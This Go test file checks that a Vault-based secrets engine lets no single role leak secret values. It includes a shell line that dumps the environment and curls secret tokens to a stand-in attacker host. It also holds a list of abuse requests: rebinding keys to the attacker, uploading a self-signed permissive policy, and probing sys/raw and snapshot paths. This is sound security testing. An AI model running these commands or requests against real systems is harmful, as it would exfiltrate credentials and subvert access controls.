package roles

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"maps"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"sealed.dev/sealed/internal/sealed"
	opabundle "sealed.dev/sealed/opa-bundle"
	"sealed.dev/sealed/rego"
	"sealed.dev/sealed/test/harness"
)

// An attempt is one request of an attacker's.
type attempt struct {
	method, path string
	body         map[string]any
}

// TestNoSingleRoleGetsAValue. The order matters: the control shows the attack
// while one person is enough, then a second person is asked for, for good.
func TestNoSingleRoleGetsAValue(t *testing.T) {
	w := newWorld(t)
	t.Run("control: two roles, and nobody else is asked", func(t *testing.T) {
		p := w.person(t, "merged-before", "sealed-operators", "sealed-profiles", "sealed-operator")
		if out := w.steal(t, p, "roles/control"); out["proposal"] != nil || w.stolen() == 0 {
			t.Fatalf("the attack does not work: %v", out)
		}
	})
	t.Run("control: the attacker's Vault is reached", func(t *testing.T) {
		p := w.person(t, "secrets-before", "", "sealed-secrets")
		s := sealed.SourceConfig{Name: "control", Type: sealed.SourceVaultKV, Address: w.evil.URL, CA: w.evil.ca(), Mount: "kv"}
		at := w.Status.Mount + "/sources/control"
		w.must(t, p.token, http.MethodPost, at, map[string]any{"source": string(textOf(s)), "credential": "a-login-of-ones-own"})
		w.must(t, p.token, http.MethodGet, at+"/check", nil)
		if !strings.Contains(string(w.evil.requests()), "a-login-of-ones-own") {
			t.Fatal("nothing arrives there")
		}
	})
	w.secondPerson(t)
	before := w.stolen()
	operator := w.safeRun(t)
	t.Run("two roles", func(t *testing.T) {
		p := w.person(t, "merged", "sealed-operators", "sealed-profiles", "sealed-operator")
		out := w.steal(t, p, "roles/merged")
		if out["proposal"] == nil || w.stolen() != before {
			t.Fatalf("a change that widens took effect without a second person: %v", out)
		}
		t.Run("control: and a second person says yes", func(t *testing.T) {
			other := w.person(t, "helper", "", "sealed-profiles")
			w.must(t, other.token, http.MethodPost, fmt.Sprintf("%s/proposals/profile/%v/confirm", w.Status.Mount, out["proposal"]), map[string]any{"digest": out["digest"]})
			w.steal(t, p, "roles/merged")
			if w.stolen() == before {
				t.Error("the attack does not work: the test shows nothing")
			}
			before = w.stolen()
		})
	})
	t.Run("one role", func(t *testing.T) {
		for _, role := range roles(t) {
			t.Run(role, func(t *testing.T) {
				t.Parallel()
				w.alone(t, role, operator)
			})
		}
	})
	if w.stolen() != before {
		t.Errorf("values arrived at the attacker's: %d, then %d", before, w.stolen())
	}
	if hits := w.spill("the attacker's Vault", w.evil.requests()); len(hits) > 0 {
		t.Errorf("%v", hits)
	}
}

// stolen counts the values that have arrived at the attacker's server.
func (w *world) stolen() (n int) {
	for _, r := range w.Upstream.Requests(evilHost, "") {
		n += len(w.spill(evilHost, textOf(r.Header)))
	}
	return n
}

// steal binds both keys to the attacker's server and runs an agent that uses
// them there. It returns what the change was answered.
func (w *world) steal(t *testing.T, p person, profile string) map[string]any {
	t.Helper()
	doc := harness.Profile1(profile, map[sealed.KeyName]sealed.KeySpec{"ONE": w.key(keyValue, evilHost), "TWO": w.key("", evilHost)})
	a := w.ask(t, p.token, http.MethodPost, w.Status.Mount+"/profiles/workflow/"+profile, map[string]any{"profile": string(textOf(doc))})
	w.run(t, p, profile)
	return a.data()
}

// run is a run that shows what it has, and sends its keys to both servers.
func (w *world) run(t *testing.T, p person, profile string) harness.Result {
	t.Helper()
	script := `env; for host in api.test ` + evilHost + `; do for v in "$ONE" "$TWO"; do curl -sS -m 10 -H "Authorization: Bearer $v" "https://$host/echo"; done; done; true`
	return w.Ctl(t, harness.Caller{User: "-", Env: []string{"VAULT_TOKEN=" + p.token}}, "run", "--agent", string(agentName), "--profile", profile, "--no-workspace", "--", "sh", "-c", script)
}

// safeRun is a run as it is meant: it uses its values, and does not show them.
// It returns the run, whose id the attacks name.
func (w *world) safeRun(t *testing.T) sealed.RunID {
	t.Helper()
	p := w.person(t, "honest", "sealed-operators", "sealed-operator")
	r := w.run(t, p, safe)
	used := 0
	for _, req := range w.Upstream.Requests("api.test", "/echo") {
		used += len(w.spill("api.test", textOf(req.Header)))
	}
	if used == 0 {
		t.Fatalf("control: the values are not used where they may be: %s", r.Stderr)
	}
	if hits := w.spill("what the run has written", []byte(r.Stdout+r.Stderr)); len(hits) > 0 {
		t.Errorf("%v", hits)
	}
	return r.RunID(t)
}

// alone lets somebody who holds one role try everything.
func (w *world) alone(t *testing.T, role string, run sealed.RunID) {
	group := ""
	if role == "sealed-operator" {
		group = "sealed-operators" // whom the profile names
	}
	p := w.person(t, "only-"+role, group, role)
	tried, let := 0, 0
	try := func(a attempt) answer {
		got := w.ask(t, p.token, a.method, a.path, a.body)
		tried++
		if got.status != http.StatusForbidden {
			let++
		}
		if hits := w.spill(a.method+" "+a.path, got.body); len(hits) > 0 {
			t.Errorf("as %s: %v", role, hits)
		}
		return got
	}
	for _, a := range w.everything(t, p, run) {
		try(a)
	}
	for _, a := range w.onPurpose(t, p) {
		try(a)
	}
	for _, kind := range sealed.ProposalKinds {
		w.confirmOwn(t, kind, p, try)
	}
	r := w.run(t, p, safe)
	own := w.run(t, p, "roles/of-"+role)
	if hits := w.spill("a run of "+role, []byte(r.Stdout+r.Stderr+own.Stdout+own.Stderr)); len(hits) > 0 {
		t.Errorf("%v", hits)
	}
	if tried < 100 || let == 0 {
		t.Errorf("%d requests, of which %d were let through: the test shows nothing", tried, let)
	}
	t.Logf("%d requests, %d past Vault's policies; runs end with %d and %d", tried, let, r.Exit, own.Exit)
}

// everything is each path of the engine's own OpenAPI document with each of its
// operations and a body that makes sense, and what is not in the document.
func (w *world) everything(t *testing.T, p person, run sealed.RunID) []attempt {
	t.Helper()
	a := w.ask(t, w.root, http.MethodGet, "sys/internal/specs/openapi", nil)
	var doc struct {
		Paths map[string]map[string]json.RawMessage
	}
	harness.Must(t, json.Unmarshal(a.body, &doc))
	holes := strings.NewReplacer("{run}", string(run), "{key}", "ONE", "{level}", "workflow", "{seq}", "1", "{act}", "close", "{vote}", "approve",
		"{kind}", "profile", "{id}", "01ARZ3NDEKTSV4RRFFQ69G5FAV", "{digest}", strings.Repeat("ab", 32))
	fill := func(template, name, path string) string {
		return holes.Replace(strings.NewReplacer("{name}", name, "{path}", path).Replace(template))
	}
	var out []attempt
	for _, path := range slices.Sorted(maps.Keys(doc.Paths)) {
		template, ours := strings.CutPrefix(path, "/"+w.Status.Mount+"/")
		if !ours {
			continue
		}
		template = strings.TrimSuffix(template, "/")
		names := []string{safe}
		switch template, _, _ := strings.Cut(template, "{name}"); template {
		case "sources/":
			names = []string{string(keySource), sealed.SourceBuiltin}
		case "agents/":
			names = []string{string(agentName)}
		}
		for _, name := range names {
			at := w.Status.Mount + "/" + fill(template, name, keyValue)
			out = append(out, attempt{http.MethodGet, at, nil}, attempt{http.MethodGet, at + "?list=true", nil})
		}
		// What writes and deletes has names of its own: the values stay for the others.
		at := w.Status.Mount + "/" + fill(template, "roles-"+p.name, "roles/"+p.name)
		for _, method := range []string{http.MethodPost, http.MethodPatch, http.MethodDelete} {
			if verb := strings.ToLower(method); doc.Paths[path][verb] != nil {
				out = append(out, attempt{method, at, w.body(t, template)})
			}
		}
	}
	if len(out) < 100 {
		t.Fatalf("only %d requests: the document is not that of the engine", len(out))
	}
	return append(out, w.beside(run)...)
}

// body is what makes sense for a path; more than it knows is refused by the engine.
func (w *world) body(t *testing.T, template string) map[string]any {
	switch template {
	case "runs":
		return map[string]any{"spec": string(textOf(harness.Enqueue(t, agentName, safe)))}
	case "profiles/preview":
		return map[string]any{"run": string(textOf(sealed.PreviewRequest{Agent: agentName, Mode: sealed.ModeJIT, Profile: safe}))}
	case "secrets/{path}":
		return map[string]any{"value": "of the attacker's own"}
	case "agents/{name}":
		return map[string]any{"agent": `{"name":"mine","version":0,"any_binary":true}`}
	case "revocations", "revocations/preview":
		return map[string]any{"kind": "key", "target": "NOTHING", "reason": "test"}
	case "log/seen":
		return map[string]any{"checkpoint": "none"}
	}
	return map[string]any{}
}

// beside are paths of Vault's own, and paths that the engine does not have.
func (w *world) beside(run sealed.RunID) []attempt {
	m := w.Status.Mount
	var out []attempt
	for _, path := range []string{
		"sys/raw/logical", "sys/raw/core", "sys/leases/lookup/" + m + "/runs/?list=true", "sys/leases/lookup/" + m + "/runs/" + string(run) + "/creds/ONE/?list=true",
		"sys/storage/raft/snapshot", "sys/mounts", "sys/audit", "sys/internal/counters/activity", "sys/replication/status", "sys/config/state/sanitized",
		"kv-roles/data/two", "kv-roles/metadata/?list=true", "cubbyhole/x", "identity/entity/name/admin", "auth/token/accessors?list=true",
		m + "/keys", m + "/secret/" + keyValue + "/1", m + "/source-credential/" + string(keySource), m + "/sources/" + string(keySource) + "/credential",
		m + "/secrets/" + keyValue + "?version=1", m + "/secrets/" + keyValue + "/metadata", m + "/grant/" + string(run), m + "/record/" + string(run),
		m + "/runs/" + string(run) + "/creds/ONE", m + "/runs/" + string(run) + "/input",
	} {
		out = append(out, attempt{http.MethodGet, path, nil})
	}
	return append(out,
		attempt{http.MethodPost, "sys/leases/lookup", map[string]any{"lease_id": m + "/runs/" + string(run) + "/creds/ONE/x"}},
		attempt{http.MethodPost, m + "/runs/" + string(run) + "/replay", map[string]any{"as": "recorded"}},
		attempt{http.MethodPost, "sys/wrapping/wrap", map[string]any{"x": "y"}},
		attempt{http.MethodPost, "sys/plugins/reload/backend", map[string]any{"mounts": []string{m}}},
		attempt{http.MethodPost, "sys/policies/acl/mine", map[string]any{"policy": `path "*" { capabilities = ["read"] }`}},
	)
}

// onPurpose is what somebody would do who wants the values: a server, a CA, a
// binding, a profile, a policy of one's own.
func (w *world) onPurpose(t *testing.T, p person) []attempt {
	t.Helper()
	m := w.Status.Mount
	put := func(path string, body map[string]any) attempt { return attempt{http.MethodPost, m + "/" + path, body} }
	source := func(change func(*sealed.SourceConfig)) attempt {
		s := w.source()
		change(&s)
		return put("sources/"+string(s.Name), map[string]any{"source": string(textOf(s))})
	}
	profile := func(level, name string, version int, keys map[sealed.KeyName]sealed.KeySpec) attempt {
		doc := harness.Profile1(name, keys)
		doc.Level, doc.Version = level, version
		return put("profiles/"+level+"/"+name, map[string]any{"profile": string(textOf(doc))})
	}
	mine := map[sealed.KeyName]sealed.KeySpec{"ONE": w.key(keyValue, evilHost), "TWO": w.key("", evilHost)}
	env := map[sealed.KeyName]sealed.KeySpec{"ONE": harness.Key(keyValue, []string{string(agentName)})}
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	harness.Must(t, err)
	der, err := x509.MarshalPKIXPublicKey(&key.PublicKey)
	harness.Must(t, err)
	public := string(pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der}))
	return []attempt{
		source(func(s *sealed.SourceConfig) { s.Address = w.evil.URL }),
		source(func(s *sealed.SourceConfig) { s.Address, s.CA = w.evil.URL, w.evil.ca() }),
		source(func(s *sealed.SourceConfig) { s.CA += w.evil.ca() }),
		source(func(s *sealed.SourceConfig) { s.Auth = sealed.SourceAuth{Method: sealed.AuthAppRole, Role: "mine"} }),
		source(func(s *sealed.SourceConfig) { s.Levels = []string{"user", "workflow", "system"} }),
		source(func(s *sealed.SourceConfig) { s.Name, s.Address, s.CA = "mine", w.evil.URL, w.evil.ca() }),
		put("sources/builtin", map[string]any{"source": `{"name":"builtin","type":"builtin","has_credential":false,"levels":["user","workflow","system"]}`}),
		{http.MethodDelete, m + "/sources/builtin?force=true", nil},
		{http.MethodGet, m + "/sources/" + string(keySource) + "/check", nil}, // calls whatever it points at
		profile("workflow", safe, 1, mine), profile("workflow", "roles/of-"+p.name, 0, mine), profile("workflow", "roles/of-"+strings.TrimPrefix(p.name, "only-"), 0, env),
		profile("user", p.entity+"/roles/of-"+strings.TrimPrefix(p.name, "only-"), 0, mine), profile("user", p.entity+"/"+safe, 0, mine), profile("system", "default", 0, mine),
		{http.MethodPatch, m + "/profiles/workflow/" + safe, map[string]any{"version": 1, "profile": `{"keys":{"ONE":{"delivery":"env","bindings":null}}}`}},
		{http.MethodPatch, m + "/profiles/workflow/" + safe, map[string]any{"version": 1, "profile": `{"requesters":{"groups":["everybody"]},"keys":{"ONE":{"risk":"low","bindings":[{"host":"` + evilHost + `","methods":["GET"],"paths":["/**"]}]}}}`}},
		put("config/policy-keys", map[string]any{"keys": string(textOf(map[string]string{"mine": public}))}),
		put("policy", map[string]any{"bundle": base64.StdEncoding.EncodeToString(permissive(t, key))}),
		put("config/trust-bundle", map[string]any{"endpoint": w.evil.URL, "ca": w.evil.ca()}),
		put("config", map[string]any{"agent_accessor": w.userpa}), // then everybody is an agent
		put("config", map[string]any{"person_claim": ""}),         // then two logins are two persons
		put("config", map[string]any{"second_person": false}),
		put("config/attest-rollback", map[string]any{"reason": "test"}),
	}
}

// permissive is a policy that allows everything, signed by a key of the attacker's.
func permissive(t *testing.T, key *ecdsa.PrivateKey) []byte {
	t.Helper()
	raw, err := opabundle.Build(t.Context(), rego.FS(), opabundle.Manifest{Revision: "mine", Sequence: 1000, Expires: time.Now().Add(time.Hour)})
	harness.Must(t, err)
	raw, err = opabundle.Sign(t.Context(), raw, key, "mine")
	harness.Must(t, err)
	return raw
}

// confirmOwn reads whatever waits and can be seen, and confirms what is one's own.
// What another has proposed would have two persons.
func (w *world) confirmOwn(t *testing.T, kind string, p person, try func(attempt) answer) {
	t.Helper()
	at := w.Status.Mount + "/proposals/" + kind
	list, _ := try(attempt{http.MethodGet, at + "?list=true", nil}).data()["keys"].([]any)
	for _, id := range list {
		shown, _ := try(attempt{http.MethodGet, fmt.Sprintf("%s/%v", at, id), nil}).data()["proposal"].(string)
		var view sealed.ProposalView
		var object sealed.ProposalObject
		harness.Must(t, sealed.Decode([]byte(shown), 4<<20, &view))
		harness.Must(t, sealed.Decode(view.Object, 4<<20, &object))
		if object.ProposerID != p.entity {
			continue
		}
		if got := try(attempt{http.MethodPost, fmt.Sprintf("%s/%v/confirm", at, id), map[string]any{"digest": view.Digest}}); got.status < 400 {
			t.Errorf("%s confirmed a change of its own: %s", p.name, got.body)
		}
	}
}
